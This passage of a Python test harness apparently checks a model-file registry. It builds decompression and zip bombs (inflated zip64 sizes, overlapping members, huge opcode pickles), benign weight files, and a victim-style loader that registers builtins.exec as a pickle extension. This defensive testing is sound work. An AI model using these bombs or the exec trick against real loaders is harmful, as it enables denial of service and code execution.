                          min(compressed_size, 0xFFFFFFFF), size32, len(name),
                          len(extra_central), 0, 0, 0, 0, offset)
    return local + name + extra_local + data, central + name + extra_central


def _end_records(count: int, central_size: int, central_offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, central_size,
                       central_offset, 0)


def declared_huge_stored() -> bytes:
    """A stored member whose zip64 sizes claim 1 TiB; the archive is a few hundred bytes."""
    data = pickle.dumps({"w": 1}, 2)
    huge = 1 << 40
    zip64 = struct.pack("<HHQQ", 0x0001, 16, huge, huge)
    local, central = _local_and_central(b"archive/data.pkl", data, method=0,
                                        crc=zlib.crc32(data), size=0xFFFFFFFF,
                                        declared_compressed=0xFFFFFFFF, extra_local=zip64,
                                        extra_central=zip64)
    return local + central + _end_records(1, len(central), len(local))


def declared_huge_deflated(count: int = 64) -> bytes:
    """``count`` deflated members, each declaring 4 GiB - 1 uncompressed from 20 bytes."""
    body, directory = b"", b""
    for index in range(count):
        raw = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = raw.compress(b"\x00" * 1024) + raw.flush()
        local, central = _local_and_central(f"archive/data/{index}".encode(), data, method=8,
                                            crc=0, size=0xFFFFFFFE, offset=len(body))
        body += local
        directory += central
    return body + directory + _end_records(count, len(directory), len(body))


def overlapping_members(count: int = 2000) -> bytes:
    """``count`` central entries all pointing at one deflated 24 MiB pickle (quoted overlap)."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    pickled = many_opcodes_pickle(b"N0")
    data = raw.compress(pickled) + raw.flush()
    local, _ = _local_and_central(b"archive/data.pkl", data, method=8, crc=zlib.crc32(pickled),
                                  size=len(pickled))
    directory = b"".join(
        _local_and_central(f"archive/data/{index}".encode(), data, method=8,
                           crc=zlib.crc32(pickled), size=len(pickled))[1]
        for index in range(count))
    return local + directory + _end_records(count, len(directory), len(local))


@dataclass(frozen=True)
class Bomb:
    id: str
    build: Callable[[], bytes]
    filename: str = ""


BOMBS = [
    Bomb("zip-24MiB-of-N-POP-opcodes", opcode_bomb_zip(b"N0"), "model.pt"),
    Bomb("zip-24MiB-of-MARK-opcodes", opcode_bomb_zip(b"(")),
    Bomb("zip-24MiB-of-NONE-opcodes", opcode_bomb_zip(b"N")),
    Bomb("plain-24MiB-pickle-of-N-POP-opcodes", lambda: many_opcodes_pickle(b"N0")),
    Bomb("gzip-of-24MiB-pickle", lambda: gzip.compress(many_opcodes_pickle(b"N0"))),
    Bomb("zip-100000-members", many_members),
    Bomb("zip64-member-declaring-1TiB", declared_huge_stored),
    Bomb("zip-64-members-declaring-4GiB-each", declared_huge_deflated),
    Bomb("zip-2000-overlapping-members", overlapping_members),
]

# --- benign files a registry must accept -------------------------------------------------------


def random_bytes() -> bytes:
    """Raw weights: pseudo-random bytes that start with no known signature."""
    import random

    return b"\x00" + random.Random(8).randbytes(4095)


BENIGN: list[tuple[str, Callable[[], bytes], str | None]] = [
    ("torch-layout-hand-built", torch_zip, "pytorch-zip"),
    *((f"plain-pickle-protocol-{p}", (lambda p=p: benign_pickle(p)), "pickle")
      for p in range(6)),
    ("npy-float32-hand-built",
     lambda: npy(struct.pack("<4f", 1, 2, 3, 4), "'<f4'", shape="(2, 2)"), None),
    ("npy-structured-numeric",
     lambda: npy(struct.pack("<fq", 1.0, 2), "[('a', '<f4'), ('b', '<i8')]"), None),
    ("npz-numeric-deflated", numeric_npz, "numpy-npz"),
    ("safetensors-two-tensors", safetensors, "safetensors"),
    ("safetensors-empty-tensor",
     lambda: safetensors({"e": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]},
                          "t": {"dtype": "BF16", "shape": [2], "data_offsets": [0, 4]}},
                         b"\x00" * 4), "safetensors"),
    ("random-bytes", random_bytes, None),
    ("gguf-magic", lambda: b"GGUF\x03\x00\x00\x00" + b"\x00" * 8 + b"\x00" * 8, "gguf"),
]


# --- running the loader a victim would use -----------------------------------------------------

LOADER = r"""
import bz2, copyreg, gzip, io, lzma, pickle, sys, zipfile
data = open(sys.argv[1], "rb").read()
for step in sys.argv[2:]:
    kind, _, arg = step.partition(":")
    if kind == "gzip":
        data = gzip.decompress(data)
    elif kind == "bz2":
        data = bz2.decompress(data)
    elif kind == "xz":
        data = lzma.decompress(data)
    elif kind == "zip":
        data = zipfile.ZipFile(io.BytesIO(data)).read(arg)
    elif kind == "ext":
        copyreg.add_extension("builtins", "exec", int(arg))
    elif kind == "pickle":
        pickle.loads(data)
    elif kind == "pickle-all":
        stream = io.BytesIO(data)
        while stream.tell() < len(data):
            pickle.load(stream)
    elif kind == "numpy":
        import numpy
        loaded = numpy.load(io.BytesIO(data), allow_pickle=True)
        for key in getattr(loaded, "files", []):
            loaded[key]
"""


def load(path: str, steps: tuple[str, ...]) -> subprocess.CompletedProcess:
    """Load the file at ``path`` the way a victim would, in a fresh interpreter."""
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    if steps == ("sh",):
        command = ["sh", path]
    elif steps == ("python",):
        command = [sys.executable, path]
    elif steps[0].startswith("python-m:"):
        command = [sys.executable, "-m", steps[0].partition(":")[2]]
        env["PYTHONPATH"] = path
    else:
        command = [sys.executable, "-c", LOADER, path, *steps]
    return subprocess.run(command, capture_output=True, env=env, timeout=120, check=False)


def torch_save_bytes() -> bytes:
    """A real ``torch.save`` checkpoint (only when torch is installed)."""
    import torch

    buffer = io.BytesIO()
    torch.save(OrderedDict(weight=torch.arange(4, dtype=torch.float32),
                           bias=torch.zeros(2, dtype=torch.float16)), buffer)
    return buffer.getvalue()
